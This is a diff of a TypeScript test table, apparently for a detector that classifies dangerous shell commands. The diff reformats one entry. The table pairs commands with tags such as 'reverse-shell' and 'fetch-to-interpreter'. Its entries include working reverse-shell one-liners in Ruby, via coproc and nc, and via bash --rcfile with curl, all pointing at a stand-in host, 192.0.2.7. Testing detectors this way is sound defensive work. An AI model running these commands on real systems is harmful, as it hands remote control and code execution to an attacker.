@@ -626,7 +626,10 @@ const EXACT: readonly (readonly [string, string])[] = [
     "fetch fetch-to-interpreter",
   ],
   ["ruby -e 's = TCPSocket.new(\"192.0.2.7\", 1)\nwhile c = s.gets\n  s.puts `#{c}`\nend'", "reverse-shell"],
-  ["coproc nc 192.0.2.7 443; bash -i <&${COPROC[0]} >&${COPROC[1]}", "fetch fetch-to-interpreter reverse-shell"],
+  [
+    "coproc nc 192.0.2.7 443; bash -i <&${COPROC[0]} >&${COPROC[1]}",
+    "fetch fetch-to-interpreter reverse-shell",
+  ],
   ["coproc X { cat; }; bash -i <&${X[0]}", ""],
   ["bash --rcfile <(curl -s http://192.0.2.7/x) -i", "fetch fetch-to-interpreter"],
   ["bash --rcfile /srv/rc -i", ""],
